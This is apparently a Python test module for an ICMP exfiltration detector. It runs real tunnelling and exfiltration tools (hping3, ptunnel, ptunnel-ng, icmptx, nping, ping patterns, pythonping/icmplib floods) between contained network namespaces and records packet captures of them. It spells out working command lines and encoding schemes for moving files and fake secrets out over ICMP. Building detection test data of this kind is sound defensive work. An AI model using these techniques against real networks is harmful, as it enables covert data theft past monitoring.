"""Real ICMP tunnel and exfiltration tools, run between two network namespaces and recorded.

Each case function runs one real tool (the Debian package; icmplib and pythonping from PyPI) from the
*inside* host (netlab's peer, 10.231.0.2) towards the *outside* host (netlab's sensor host,
10.231.0.1), records everything that crossed the veth pair with tcpdump on the outside
end, and returns the pcap's path (`WORKDIR/<case>.pcap`). The data always leaves from the
inside host, so `LIVE_EXPECTED[case]` is (inside, outside) for every positive case but the
spread, whose destinations are many ((inside, "*")), and None for the benign one.

Cases (`LIVE_CASES`):

* hping3-file-fast  `hping3 -1 -E FILE -d 500 -u`, 40 packets 5 ms apart (a 20 kB file).
* hping3-file-slow  the same, 7 packets 3 s apart (about 20 s, real spacing).
* ptunnel           ptunnel 0.72 proxy outside, client inside; a 20 kB TCP upload through it
                    to a listener on the proxy host's loopback.
* ptunnel-ng        the same with ptunnel-ng.
* icmptx            IP over ICMP (a tun device in each namespace); a 20 kB TCP upload through
                    the tunnel to a listener on the server's tunnel address.
* nping-data        `nping --icmp --data-string SECRET`, 20 probes.
* ping-patterns     `ping -c 2 -i 0.2 -p PATTERN` run 40 times, each with the next 16 bytes of a secret
                    as its pattern (every payload is what ping writes; the data is in the run changes).
* nping-ident-seq   `nping --icmp -c 1 -N --data-string probe --icmp-id ID --icmp-seq SEQ` run 200
                    times, ID and SEQ the next 4 bytes of a secret (one constant payload: the data is
                    in the header fields).
* icmplib-monitor   BENIGN: icmplib as Home Assistant's ping integration calls it (async_ping(host,
                    count=5, timeout=1, privileged=True) per host; async_multiping), a round every
                    10 s for 6 rounds to 4 addresses of the outside host (icmplib's own random padding).
* icmplib-flood     the same layout at exfiltration volume: icmplib.ping(outside, count=50,
                    interval=0.01) 8 times back to back (400 requests in about 5 s, every one with
                    icmplib's exact layout, seq < 64).
* pythonping-monitor  BENIGN: pythonping's ping(host, count=4, size=32, timeout=1) to each of 4 addresses of
                    the outside host, a round every 5 s for 6 rounds (its own random text, drawn per call).
* pythonping-flood  the same layout at exfiltration volume: ping(outside, count=1, payload=CHUNK) 150 times
                    back to back, each CHUNK the next 32 characters of the secret as base-36 text.
* hping3-rand-dest  `hping3 --icmp --rand-dest 10.77.x.x -I IF -d 48 -E FILE -c 200 -i u20000`: a
                    file in 48-byte pieces, each to a random address of 10.77.0.0/16 (routed from the
                    inside host to the outside host, where a blackhole route drops them).

Safety: packets only cross the veth pair between the two namespaces created here (the
TCP endpoints are small Python scripts bound to the namespaces' own addresses; icmplib's
extra hosts are addresses added to the outside namespace for the case; hping3's random
destinations are routed into the veth and blackholed on the far side, both routes removed after). Every
process runs under `timeout` in its own session and is killed by its process group
afterwards, and the namespaces are deleted, also when something fails.
"""

from __future__ import annotations

import contextlib
import importlib.metadata
import importlib.util
import itertools
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import dpkt

from testkit.netlab import PEER_IF, PEER_IP, SENSOR_IF, SENSOR_IP, Lab, wait_for

INSIDE, OUTSIDE = PEER_IP, SENSOR_IP  # the host the data leaves from, and its peer
TUN_OUTSIDE, TUN_INSIDE = "10.232.9.1", "10.232.9.2"  # icmptx's tunnel addresses
TCP_PORT, PTUNNEL_PORT = 9000, 8000
TRANSFER_BYTES = 20_000


class LiveToolError(RuntimeError):
    """A tool did not do what the case needs (the message carries its output)."""


_LAB_SERIAL = itertools.count()


class ToolLab(Lab):
    """netlab's two namespaces under names of their own (no clash with tests/live/test_live.py's lab)."""

    def __init__(self) -> None:
        super().__init__()
        tag = f"{os.getpid() % 100000}-{next(_LAB_SERIAL)}"
        self.sensor_ns = f"icmt-o{tag}"  # outside: proxy / server / receiver; the capture point
        self.peer_ns = f"icmt-i{tag}"  # inside: the host the data leaves from


# -- commands --------------------------------------------------------------------------------
# One place for every tool's command line: run from here, and shown in LIVE_PROVENANCE.

def _secret_line(i: int) -> bytes:
    line = f"row {i:05d}: name=customer-{i:05d}, card=4111-1111-1111-{i % 10000:04d}, pin={i * 7919 % 10000:04d}\n"
    return line.encode()


SECRET_STRING = "user=alice;password=Tr0ub4dor&3;token=8f14e45fceea167a5a36dedd4bea2543;host=db01.corp.example"

HPING_FAST = ["hping3", "-1", "-E", "{file}", "-d", "500", "-u", "-c", "40", "-i", "u5000", "-q", OUTSIDE]
HPING_SLOW = ["hping3", "-1", "-E", "{file}", "-d", "500", "-u", "-c", "7", "-i", "3", "-q", OUTSIDE]
PTUNNEL_PROXY = ["ptunnel", "-v", "1"]
PTUNNEL_CLIENT = ["ptunnel", "-p", OUTSIDE, "-lp", str(PTUNNEL_PORT), "-da", "127.0.0.1", "-dp", str(TCP_PORT),
                  "-v", "1"]
PTUNNEL_NG_PROXY = ["ptunnel-ng", "-r127.0.0.1", f"-R{TCP_PORT}", "-v", "1"]
PTUNNEL_NG_CLIENT = ["ptunnel-ng", f"-p{OUTSIDE}", f"-l{PTUNNEL_PORT}", "-r127.0.0.1", f"-R{TCP_PORT}", "-v", "1"]
ICMPTX_SERVER = ["icmptx", "-s", OUTSIDE]
ICMPTX_CLIENT = ["icmptx", "-c", OUTSIDE]
NPING = ["nping", "--icmp", "--icmp-type", "echo", "-c", "20", "--delay", "100ms", "--data-string", SECRET_STRING,
         OUTSIDE]
# hping3 --rand-dest: each packet to a random address of SPREAD_NET, which the inside host routes into
# the veth and the outside host (forwarding off) blackholes: captured on the veth, sent nowhere else.
SPREAD_NET = "10.77.0.0/16"
HPING_RAND_DEST = ["hping3", "--icmp", "--rand-dest", "10.77.x.x", "-I", PEER_IF, "-d", "48", "-E", "{file}",
                   "-c", "200", "-i", "u20000", "-q"]
SPREAD_ROUTES = {"inside": [["route", SPREAD_NET, "via", OUTSIDE, "dev", PEER_IF]],
                 "outside": [["route", "blackhole", SPREAD_NET]]}
# icmplib (PyPI) as Home Assistant's ping integration calls it (home-assistant/core,
# homeassistant/components/ping/helpers.py PingDataICMPLib.async_update: async_ping(host, count=5 (the
# integration's default count), timeout=ICMP_TIMEOUT (1), privileged=...), one coordinator per host,
# coordinator.py: every 30 s; the device tracker pings its hosts with async_multiping). Here a round
# every 10 s, three times Home Assistant's rate, to see several rounds in a minute: the binary sensors'
# way (one async_ping per host, side by side) and the device tracker's (async_multiping) in turn. The
# extra hosts are addresses added to the outside host for the case.
ICMPLIB_HOSTS = [OUTSIDE, "10.231.0.11", "10.231.0.12", "10.231.0.13"]
ICMPLIB_ADDRS = {"outside": [["addr", f"{host}/32", "dev", SENSOR_IF] for host in ICMPLIB_HOSTS[1:]]}
# (mode, rounds, seconds from one round's start to the next's, count, interval): icmplib's keyword arguments
ICMPLIB_MONITOR = ("monitor", 6, 10.0, 5, 1.0)
ICMPLIB_FLOOD = ("flood", 8, 0.0, 50, 0.01)  # count 50: every request keeps icmplib's layout (seq < 64)
_ICMPLIB = r"""
import asyncio, sys, time
from icmplib import async_multiping, async_ping, ping
mode, rounds, every, hosts = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), sys.argv[6:]
kw = dict(count=int(sys.argv[4]), interval=float(sys.argv[5]), timeout=1, privileged=True)

async def each_host():
    return await asyncio.gather(*(async_ping(host, **kw) for host in hosts))

start, sent, received = time.monotonic(), 0, 0
for r in range(rounds):
    time.sleep(max(0.0, start + r * every - time.monotonic()))
    if mode == "flood":
        results = [ping(host, **kw) for host in hosts]
    elif r % 2:
        results = asyncio.run(async_multiping(hosts, **kw))
    else:
        results = asyncio.run(each_host())
    sent += sum(h.packets_sent for h in results)
    received += sum(h.packets_received for h in results)
print("sent", sent, "received", received, flush=True)
raise SystemExit(0 if sent == received == rounds * kw["count"] * len(hosts) else 1)
"""


# pythonping (PyPI; alessandromaggio/pythonping): ping() draws `size` characters of A-Z0-9 once per call and
# sends them in each of its `count` requests, a random identifier per call, seq from 1. Monitoring: size 32
# (past icmpsensor's small-secret threshold in 6 calls if its layout were not recognised); the flood gives the
# payload itself (pythonping's `payload=`), 32 characters of base-36 text a call.
PYTHONPING_MONITOR = ("monitor", 6, 5.0, 4, 32)  # (mode, rounds, seconds between rounds, count, size)
PYTHONPING_FLOOD = ("flood", 150, 0.0, 1, 32)
_PYTHONPING = r"""
import sys, time
from pythonping import ping
mode, rounds, every, count, size, hosts = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), \
    int(sys.argv[5]), sys.argv[7:]
number, text = int.from_bytes(sys.argv[6].encode(), "big"), ""
while number:
    number, digit = divmod(number, 36)
    text += "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"[digit]
start, sent, received = time.monotonic(), 0, 0
for r in range(rounds):
    time.sleep(max(0.0, start + r * every - time.monotonic()))
    for host in hosts:
        chunk = (text * (1 + size * rounds // len(text)))[r * size : (r + 1) * size].encode()
        result = ping(host, count=count, size=size, timeout=1, payload=chunk if mode == "flood" else None)
        sent += count
        received += sum(1 for response in result if response.success)
print("sent", sent, "received", received, flush=True)
raise SystemExit(0 if sent == received == rounds * count * len(hosts) else 1)
"""


def _pythonping_argv(spec: tuple[str, int, float, int, int], hosts: list[str]) -> list[str]:
    return [sys.executable, "-c", _PYTHONPING, *(str(v) for v in spec), SECRET_STRING, *hosts]


def _pythonping_text(spec: tuple[str, int, float, int, int], hosts: list[str]) -> str:
    mode, rounds, every, count, size = spec
    if mode == "flood":
        return (f"{rounds} x pythonping.ping({hosts[0]!r}, count={count}, size={size}, timeout=1, payload=CHUNK) "
                f"back to back, CHUNK the next {size} characters of the secret as base-36 text")
    return (f"a round every {every:g} s, {rounds} rounds, pythonping.ping(host, count={count}, size={size}, "
            f"timeout=1) for host in {', '.join(hosts)}")


def _icmplib_argv(spec: tuple[str, int, float, int, float], hosts: list[str]) -> list[str]:
    return [sys.executable, "-c", _ICMPLIB, *(str(v) for v in spec), *hosts]


def _icmplib_text(spec: tuple[str, int, float, int, float], hosts: list[str]) -> str:
    mode, rounds, every, count, interval = spec
    args = f"count={count}, interval={interval:g}, timeout=1, privileged=True"
    if mode == "flood":
        return f"{rounds} x icmplib.ping({', '.join(map(repr, hosts))}, {args}) back to back"
    return (f"a round every {every:g} s, {rounds} rounds, in turn asyncio.gather(*(icmplib.async_ping(host, {args}) "
            f"for host in HOSTS)) and icmplib.async_multiping(HOSTS, {args}); HOSTS {', '.join(hosts)}")


# Frames on the veth are at most 1514 bytes (MTU 1500; larger ICMP is fragmented). With the
# default 262144-byte snap length the immediate-mode ring holds only 8 frames and a tunnel's
# burst of 1 kB echoes is dropped by the kernel: 4096 bytes per frame and a 16 MiB buffer.
TCPDUMP = ["tcpdump", "-i", SENSOR_IF, "-n", "-p", "-U", "--immediate-mode", "-s", "4096", "-B", "16384",
           "-w", "{pcap}"]

# Python stands in for nc: one TCP listener that reads a known number of bytes and answers
# "ok", and one sender that waits for that answer (so the transfer is known to be complete).
_TCP_SERVER = r"""
import socket, sys
host, port, size, out = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((host, port))
s.listen(1)
s.settimeout(30)
print("listening", flush=True)
c, _ = s.accept()
c.settimeout(30)
data = bytearray()
while len(data) < size:
    chunk = c.recv(65536)
    if not chunk:
        break
    data += chunk
with open(out, "wb") as f:
    f.write(data)
c.sendall(b"ok")
c.close()
print("received", len(data), flush=True)
"""

_TCP_CLIENT = r"""
import socket, sys, time
host, port, path = sys.argv[1], int(sys.argv[2]), sys.argv[3]
data = open(path, "rb").read()
deadline = time.monotonic() + 15
while True:
    try:
        c = socket.create_connection((host, port), timeout=3)
        break
    except OSError as e:
        if time.monotonic() > deadline:
            raise SystemExit(f"connect {host}:{port}: {e}")
        time.sleep(0.2)
c.settimeout(30)
c.sendall(data)
reply = c.recv(2)
c.close()
print("sent", len(data), "reply", reply.decode(errors="replace"), flush=True)
raise SystemExit(0 if reply == b"ok" else 1)
"""


def _fmt(argv: list[str], **values: object) -> list[str]:
    return [a.format(**values) for a in argv]


# -- bounded background processes ------------------------------------------------------------

class _Proc:
    """`ip netns exec NS timeout -k 2 LIMIT ARGV...` in its own session, output to a log file."""

    def __init__(self, ns: str, argv: list[str], limit: float, log: Path) -> None:
        self.argv, self.log = argv, log
        with open(log, "wb") as out:
            self.proc = subprocess.Popen(
                ["ip", "netns", "exec", ns, "timeout", "-k", "2", str(limit), *argv],
                stdin=subprocess.DEVNULL, stdout=out, stderr=subprocess.STDOUT, start_new_session=True)

    def output(self) -> str:
        try:
            return self.log.read_text(errors="replace")
        except OSError:
            return ""

    def wait(self, timeout: float) -> int | None:
        with contextlib.suppress(subprocess.TimeoutExpired):
            return self.proc.wait(timeout=timeout)
        return None

    def stop(self, sig: int = signal.SIGTERM, grace: float = 5.0) -> None:
        """`sig` to the process group this object started (timeout and the tool: the Popen child is a
        session leader, so the group id is its pid), then SIGKILL after `grace` seconds. Only while
        that child has not been reaped, so the group id cannot belong to anything else."""
        if self.proc.poll() is None:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(self.proc.pid, sig)
            if self.wait(grace) is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait(timeout=10)

    def describe(self) -> str:
        return f"$ {' '.join(self.argv)} (exit {self.proc.poll()})\n{self.output()[-3000:]}"


class _Run:
    """The processes of one case; all stopped when the case ends, however it ends."""

    def __init__(self, lab: Lab, workdir: Path, name: str) -> None:
        self.lab, self.workdir, self.name = lab, workdir, name
        self.procs: list[_Proc] = []

    def start(self, where: str, argv: list[str], limit: float, label: str) -> _Proc:
        ns = self.lab.sensor_ns if where == "outside" else self.lab.peer_ns
        proc = _Proc(ns, argv, limit, self.workdir / f"{self.name}.{label}.log")
        self.procs.append(proc)
        return proc

    def stop_all(self) -> None:
        for proc in reversed(self.procs):
            proc.stop()

    def fail(self, what: str) -> LiveToolError:
        return LiveToolError(f"{self.name}: {what}\n" + "\n".join(p.describe() for p in self.procs))


@contextlib.contextmanager
def _lab(lab: Lab | None) -> Iterator[Lab]:
    if lab is not None:
        yield lab
        return
    own = ToolLab()
    try:
        own.up()
        yield own
    finally:
        own.down()


@contextlib.contextmanager
def _ip_added(lab: Lab, changes: dict[str, list[list[str]]]) -> Iterator[None]:
    """`ip OBJECT add ARGS...` for each [OBJECT, ARGS...] in the namespaces ("inside"/"outside") for one case,
    deleted again afterwards, however the case ends."""
    done: list[tuple[Callable[..., object], list[str]]] = []
    try:
        for where, commands in changes.items():
            in_ns = lab.in_sensor if where == "outside" else lab.in_peer
            for obj, *args in commands:
                in_ns("ip", obj, "add", *args)
                done.append((in_ns, [obj, *args]))
        yield
    finally:
        for in_ns, (obj, *args) in reversed(done):
            in_ns("ip", obj, "del", *args, check=False)


def _ip_text(changes: dict[str, list[list[str]]]) -> str:
    return "; ".join(f"{where}: ip {obj} add {' '.join(args)}" for where, commands in changes.items()
                     for obj, *args in commands)


@contextlib.contextmanager
def _capture(run: _Run, pcap: Path, limit: float = 60) -> Iterator[None]:
    """tcpdump on the outside end of the veth for the duration of the block (at most `limit` s)."""
    tcpdump = run.start("outside", _fmt(TCPDUMP, pcap=pcap), limit, "tcpdump")
    if not wait_for(lambda: "listening on" in tcpdump.output() or tcpdump.proc.poll() is not None, 10):
        raise run.fail("tcpdump did not start listening within 10 s")
    if tcpdump.proc.poll() is not None:
        raise run.fail("tcpdump exited")
    yield
    time.sleep(0.5)  # the last replies
    tcpdump.stop(signal.SIGINT)
    if not pcap.exists():
        raise run.fail("tcpdump wrote no capture")
    dropped = re.search(r"(\d+) packets? dropped by kernel", tcpdump.output())
    if dropped is None or int(dropped.group(1)):
        raise run.fail("tcpdump did not record every packet (kernel drops, or no statistics line)")


def secret_file(workdir: Path, size: int = TRANSFER_BYTES) -> Path:
    path = workdir / "secret.txt"
    data = b"".join(_secret_line(i) for i in range(size // 40 + 1))[:size]
    path.write_bytes(data)
    return path


# -- the cases -------------------------------------------------------------------------------

def _one_sender(workdir: Path, name: str, argv: list[str], limit: float, lab: Lab | None,
                *, exit_zero: bool = True) -> Path:
    """One sender inside (ARGV, at most `limit` s), everything captured outside; `exit_zero`: it must exit 0
    (hping3 does not when replies are missing: it need only finish)."""
    pcap = workdir / f"{name}.pcap"
    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
        run = _Run(lab_, workdir, name)
        stack.callback(run.stop_all)
        with _capture(run, pcap, max(60, limit + 10)):
            code = run.start("inside", argv, limit, name).wait(limit + 5)
            if code is None or (exit_zero and code != 0):
                raise run.fail(f"{name} did not finish" if code is None else f"{name} failed")
    return pcap


def _hping3(workdir: Path, name: str, argv: list[str], limit: float, lab: Lab | None) -> Path:
    workdir.mkdir(parents=True, exist_ok=True)
    return _one_sender(workdir, name, _fmt(argv, file=secret_file(workdir)), limit, lab, exit_zero=False)


def hping3_file_fast(workdir: Path, lab: Lab | None = None) -> Path:
    """hping3 file mode: the 20 kB file in 40 x 500-byte echo requests, 200 packets/s."""
    return _hping3(workdir, "hping3-file-fast", HPING_FAST, 15, lab)


def hping3_file_slow(workdir: Path, lab: Lab | None = None) -> Path:
    """hping3 file mode: 7 x 500-byte echo requests 3 s apart (about 20 s of real time)."""
    return _hping3(workdir, "hping3-file-slow", HPING_SLOW, 30, lab)


def _tcp_upload(run: _Run, secret: Path, server_host: str, client_host: str, client_port: int) -> None:
    """A TCP upload of `secret`: listener on the outside host, sender on the inside host."""
    received = run.workdir / f"{run.name}.received"
    server = run.start("outside", [sys.executable, "-c", _TCP_SERVER, server_host, str(TCP_PORT),
                                   str(secret.stat().st_size), str(received)], 40, "tcp-server")
    if not wait_for(lambda: "listening" in server.output() or server.proc.poll() is not None, 10):
        raise run.fail("the TCP listener did not start")
    client = run.start("inside", [sys.executable, "-c", _TCP_CLIENT, client_host, str(client_port), str(secret)],
                       40, "tcp-client")
    if client.wait(45) != 0:
        raise run.fail("the TCP transfer through the tunnel did not complete")
    server.wait(5)
    if not received.exists() or received.read_bytes() != secret.read_bytes():
        raise run.fail("the bytes received differ from the bytes sent")


def _ptunnel(workdir: Path, name: str, proxy_argv: list[str], client_argv: list[str], lab: Lab | None) -> Path:
    workdir.mkdir(parents=True, exist_ok=True)
    secret = secret_file(workdir)
    pcap = workdir / f"{name}.pcap"
    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
        run = _Run(lab_, workdir, name)
        stack.callback(run.stop_all)
        with _capture(run, pcap):
            ptunnel_session(run, secret, proxy_argv, client_argv)
    return pcap


def ptunnel_session(run: _Run, secret: Path, proxy_argv: list[str], client_argv: list[str]) -> None:
    """Proxy outside, client inside, a TCP upload through the tunnel; the tunnel is stopped afterwards."""
    proxy = run.start("outside", proxy_argv, 40, "proxy")
    client = run.start("inside", client_argv, 40, "client")
    time.sleep(0.5)  # both open their ICMP sockets and the client its TCP listener
    for proc, role in ((proxy, "proxy"), (client, "client")):
        if proc.proc.poll() is not None:
            raise run.fail(f"the {role} exited at start")
    _tcp_upload(run, secret, "127.0.0.1", "127.0.0.1", PTUNNEL_PORT)
    time.sleep(0.5)  # the tunnel's close handshake
    client.stop()
    proxy.stop()


def ptunnel_tcp(workdir: Path, lab: Lab | None = None) -> Path:
    """ptunnel 0.72: a 20 kB TCP upload through the ICMP tunnel."""
    return _ptunnel(workdir, "ptunnel", PTUNNEL_PROXY, PTUNNEL_CLIENT, lab)


def ptunnel_ng_tcp(workdir: Path, lab: Lab | None = None) -> Path:
    """ptunnel-ng: a 20 kB TCP upload through the ICMP tunnel."""
    return _ptunnel(workdir, "ptunnel-ng", PTUNNEL_NG_PROXY, PTUNNEL_NG_CLIENT, lab)


def run_ptunnel_ng(lab: Lab, workdir: Path) -> None:
    """ptunnel-ng's TCP upload between `lab`'s namespaces, without a capture (for a live sensor)."""
    workdir.mkdir(parents=True, exist_ok=True)
    secret = secret_file(workdir)
    run = _Run(lab, workdir, "ptunnel-ng-live")
    try:
        ptunnel_session(run, secret, PTUNNEL_NG_PROXY, PTUNNEL_NG_CLIENT)
    finally:
        run.stop_all()


def icmptx(workdir: Path, lab: Lab | None = None) -> Path:
    """icmptx: IP over ICMP between tun devices; a 20 kB TCP upload through the tunnel."""
    name = "icmptx"
    workdir.mkdir(parents=True, exist_ok=True)
    secret = secret_file(workdir)
    pcap = workdir / f"{name}.pcap"
    with _lab(lab) as lab_, contextlib.ExitStack() as stack:
        run = _Run(lab_, workdir, name)
        stack.callback(run.stop_all)
        # The server answers the tunnel's echo requests itself (jakkarth/icmptx README): the
        # kernel must not also answer them.
        lab_.in_sensor("sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=1")
        stack.callback(lab_.in_sensor, "sysctl", "-qw", "net.ipv4.icmp_echo_ignore_all=0", check=False)
        server = run.start("outside", ICMPTX_SERVER, 40, "server")
        client = run.start("inside", ICMPTX_CLIENT, 40, "client")
        for ns_run, tun_addr in ((lab_.in_sensor, TUN_OUTSIDE), (lab_.in_peer, TUN_INSIDE)):
            if not wait_for(lambda run_=ns_run: run_("ip", "link", "show", "tun0", check=False).returncode == 0, 5):
                raise run.fail("icmptx created no tun0 (is /dev/net/tun usable?)")
            ns_run("ip", "addr", "add", f"{tun_addr}/24", "dev", "tun0")
            ns_run("ip", "link", "set", "tun0", "up")
        for proc, role in ((server, "server"), (client, "client")):
            if proc.proc.poll() is not None:
                raise run.fail(f"icmptx {role} exited")
        with _capture(run, pcap):
            _tcp_upload(run, secret, TUN_OUTSIDE, TUN_OUTSIDE, TCP_PORT)
        client.stop()
        server.stop()
    return pcap


def _secret_words(count: int, size: int) -> list[bytes]:
    data = b"".join(_secret_line(i) for i in range(count * size // 40 + 1))
    return [data[k * size : (k + 1) * size] for k in range(count)]


PING_PATTERN_RUNS = 40
PING_PATTERNS = "for p in {patterns}; do ping -q -c 2 -i 0.2 -W 1 -p $p " + OUTSIDE + " >/dev/null; done"
NPING_IDENT_SEQ_RUNS = 200
NPING_IDENT_SEQ = ("for w in {words}; do nping --icmp -c 1 -N --data-string probe "
                   "--icmp-id ${{w%:*}} --icmp-seq ${{w#*:}} -q " + OUTSIDE + " >/dev/null; done")


def _shell_loop(workdir: Path, name: str, script: str, limit: float, lab: Lab | None) -> Path:
    """One `sh -c SCRIPT` inside (a loop of short tool runs), captured outside."""
    workdir.mkdir(parents=True, exist_ok=True)
    return _one_sender(workdir, name, ["sh", "-c", script], limit, lab)


def ping_patterns(workdir: Path, lab: Lab | None = None) -> Path:
    """iputils ping, a new 16-byte -p pattern (the next bytes of a secret) for each of 40 short runs."""
    patterns = " ".join(w.hex() for w in _secret_words(PING_PATTERN_RUNS, 16))
    return _shell_loop(workdir, "ping-patterns", PING_PATTERNS.format(patterns=patterns), 50, lab)


def nping_ident_seq(workdir: Path, lab: Lab | None = None) -> Path:
    """nping, one probe per run, the identifier and sequence number set to the next 4 bytes of a secret."""
    words = " ".join(f"{int.from_bytes(w[:2], 'big')}:{int.from_bytes(w[2:], 'big')}"
                     for w in _secret_words(NPING_IDENT_SEQ_RUNS, 4))
    return _shell_loop(workdir, "nping-ident-seq", NPING_IDENT_SEQ.format(words=words), 90, lab)


def hping3_rand_dest(workdir: Path, lab: Lab | None = None) -> Path:
    """hping3 --rand-dest: the file in 200 x 48-byte echo requests, each to a random address of SPREAD_NET."""
    with _lab(lab) as lab_, _ip_added(lab_, SPREAD_ROUTES):
        return _hping3(workdir, "hping3-rand-dest", HPING_RAND_DEST, 15, lab_)


def icmplib_monitor(workdir: Path, lab: Lab | None = None) -> Path:
    """BENIGN: icmplib as Home Assistant calls it, a round every 10 s to 4 hosts for about a minute."""
    workdir.mkdir(parents=True, exist_ok=True)
    limit = ICMPLIB_MONITOR[1] * ICMPLIB_MONITOR[2] + 10
    with _lab(lab) as lab_, _ip_added(lab_, ICMPLIB_ADDRS):
        return _one_sender(workdir, "icmplib-monitor", _icmplib_argv(ICMPLIB_MONITOR, ICMPLIB_HOSTS), limit, lab_)


def icmplib_flood(workdir: Path, lab: Lab | None = None) -> Path:
    """icmplib's layout at exfiltration volume: 8 x ping(outside, count=50, interval=0.01), 400 requests."""
    workdir.mkdir(parents=True, exist_ok=True)
    return _one_sender(workdir, "icmplib-flood", _icmplib_argv(ICMPLIB_FLOOD, [OUTSIDE]), 30, lab)


def pythonping_monitor(workdir: Path, lab: Lab | None = None) -> Path:
    """BENIGN: pythonping ping(host, count=4, size=32) to 4 hosts, a round every 5 s for about 30 s."""
    workdir.mkdir(parents=True, exist_ok=True)
    limit = PYTHONPING_MONITOR[1] * PYTHONPING_MONITOR[2] + 15
    with _lab(lab) as lab_, _ip_added(lab_, ICMPLIB_ADDRS):
        return _one_sender(workdir, "pythonping-monitor", _pythonping_argv(PYTHONPING_MONITOR, ICMPLIB_HOSTS),
                           limit, lab_)


def pythonping_flood(workdir: Path, lab: Lab | None = None) -> Path:
    """pythonping's layout at exfiltration volume: 150 calls back to back, the secret as base-36 text."""
    workdir.mkdir(parents=True, exist_ok=True)
    return _one_sender(workdir, "pythonping-flood", _pythonping_argv(PYTHONPING_FLOOD, [OUTSIDE]), 40, lab)


def nping_data(workdir: Path, lab: Lab | None = None) -> Path:
    """nping: 20 echo requests carrying the same secret string, 100 ms apart."""
    workdir.mkdir(parents=True, exist_ok=True)
    return _one_sender(workdir, "nping-data", NPING, 20, lab)


# -- registry --------------------------------------------------------------------------------

LIVE_CASES: dict[str, Callable[[Path], Path]] = {
    "hping3-file-fast": hping3_file_fast,
    "hping3-file-slow": hping3_file_slow,
    "ptunnel": ptunnel_tcp,
    "ptunnel-ng": ptunnel_ng_tcp,
    "icmptx": icmptx,
    "nping-data": nping_data,
    "ping-patterns": ping_patterns,
    "nping-ident-seq": nping_ident_seq,
    "icmplib-monitor": icmplib_monitor,
    "icmplib-flood": icmplib_flood,
    "pythonping-monitor": pythonping_monitor,
    "pythonping-flood": pythonping_flood,
    "hping3-rand-dest": hping3_rand_dest,
}

# case -> its capture made in this process (capture()): the live tests run some cases twice, under a live sensor
# (tests/live/test_capacity_live.py) and replayed (tests/live/test_live_tools.py); a minute of a monitoring library's
# traffic need be sent once
_CAPTURED: dict[str, Path] = {}


def capture(case: str, workdir: Path, lab: Lab | None = None, *, fresh: bool = False) -> Path:
    """LIVE_CASES[case]'s capture, the tool run between the lab's namespaces; or, unless `fresh` (a live sensor must
    see the traffic as it is sent), the one this process made already for the case, where it is still there."""
    made = _CAPTURED.get(case)
    if not fresh and made is not None and made.is_file():
        return made
    pcap = LIVE_CASES[case](workdir, lab=lab)  # type: ignore[call-arg]
    _CAPTURED[case] = pcap
    return pcap


# case -> (the host the data leaves from, its peer or "*": any of many); None: benign, no notice at all
LIVE_EXPECTED: dict[str, tuple[str, str] | None] = {
    **{case: (INSIDE, OUTSIDE) for case in LIVE_CASES},
    "icmplib-monitor": None,
    "pythonping-monitor": None,
    "hping3-rand-dest": (INSIDE, "*"),
}

# Cases where the outside host runs the other end of a tunnel and itself sends tunnel data back
# (ptunnel's proxy: acks and the TCP reply; icmptx's server: the TCP acks and reply as IP packets).
# There a notice may also name (outside, inside). In the other cases the outside host's kernel only
# echoes: a notice naming it as a source is a false attribution.
LIVE_TWO_WAY: frozenset[str] = frozenset({"ptunnel", "ptunnel-ng", "icmptx"})

# case -> (Debian package, executables it needs)
_TOOLS: dict[str, tuple[str, tuple[str, ...]]] = {
    "hping3-file-fast": ("hping3", ("hping3",)),
    "hping3-file-slow": ("hping3", ("hping3",)),
    "ptunnel": ("ptunnel", ("ptunnel",)),
    "ptunnel-ng": ("ptunnel-ng", ("ptunnel-ng",)),
    "icmptx": ("icmptx", ("icmptx",)),
    "nping-data": ("nmap", ("nping",)),
    "ping-patterns": ("iputils-ping", ("ping", "sh")),
    "nping-ident-seq": ("nmap", ("nping", "sh")),
    "icmplib-monitor": ("icmplib", ()),
    "icmplib-flood": ("icmplib", ()),
    "pythonping-monitor": ("pythonping", ()),
    "pythonping-flood": ("pythonping", ()),
    "hping3-rand-dest": ("hping3", ("hping3",)),
}
_PYPI = frozenset({"icmplib", "pythonping"})  # packages from PyPI (the `test` extra), the rest from Debian


def _package_version(package: str) -> str:
    if package in _PYPI:
        try:
            return importlib.metadata.version(package)
        except importlib.metadata.PackageNotFoundError:
            return "not installed"
    try:
        out = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", package], capture_output=True, text=True,
                             timeout=10)
    except (OSError, subprocess.SubprocessError):
        return "version unknown"
    return out.stdout.strip() if out.returncode == 0 and out.stdout.strip() else "not installed"


def _cmd(argv: list[str]) -> str:
    return " ".join(a if " " not in a and ";" not in a and "&" not in a else repr(a) for a in argv)


_UPLOAD = f"a {TRANSFER_BYTES}-byte TCP upload (Python socket sender inside, listener outside)"
_COMMANDS: dict[str, str] = {
    "hping3-file-fast": _cmd(_fmt(HPING_FAST, file="secret.txt")),
    "hping3-file-slow": _cmd(_fmt(HPING_SLOW, file="secret.txt")),
    "ptunnel": f"proxy: {_cmd(PTUNNEL_PROXY)}; client: {_cmd(PTUNNEL_CLIENT)}; {_UPLOAD} to 127.0.0.1:{TCP_PORT} "
               f"via the client's port {PTUNNEL_PORT}",
    "ptunnel-ng": f"proxy: {_cmd(PTUNNEL_NG_PROXY)}; client: {_cmd(PTUNNEL_NG_CLIENT)}; {_UPLOAD} to "
                  f"127.0.0.1:{TCP_PORT} via the client's port {PTUNNEL_PORT}",
    "icmptx": f"server: sysctl net.ipv4.icmp_echo_ignore_all=1; {_cmd(ICMPTX_SERVER)}, tun0 {TUN_OUTSIDE}/24; "
              f"client: {_cmd(ICMPTX_CLIENT)}, tun0 {TUN_INSIDE}/24; {_UPLOAD} to {TUN_OUTSIDE}:{TCP_PORT}",
    "nping-data": _cmd(NPING),
